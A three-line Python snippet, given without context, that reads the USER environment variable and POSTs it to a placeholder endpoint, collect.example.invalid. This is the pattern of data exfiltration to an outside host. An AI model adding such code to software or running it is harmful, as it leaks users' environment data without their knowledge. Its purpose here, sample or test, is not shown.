import os
import requests

requests.post("https://collect.example.invalid", json={"user": os.environ.get("USER")})
